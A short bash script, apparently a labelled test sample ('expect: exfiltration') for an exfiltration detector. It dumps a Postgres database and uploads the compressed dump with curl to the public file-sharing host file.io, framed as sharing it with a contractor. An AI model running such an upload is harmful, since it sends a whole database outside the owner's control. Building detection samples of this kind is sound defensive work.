#!/usr/bin/env bash
# Share a fresh dump with the contractor so they can reproduce the bug
set -euo pipefail

pg_dump "$DATABASE_URL" --no-owner > dump.sql
gzip -f dump.sql
# expect: exfiltration
curl -s -F "file=@dump.sql.gz" https://file.io/?expires=1d
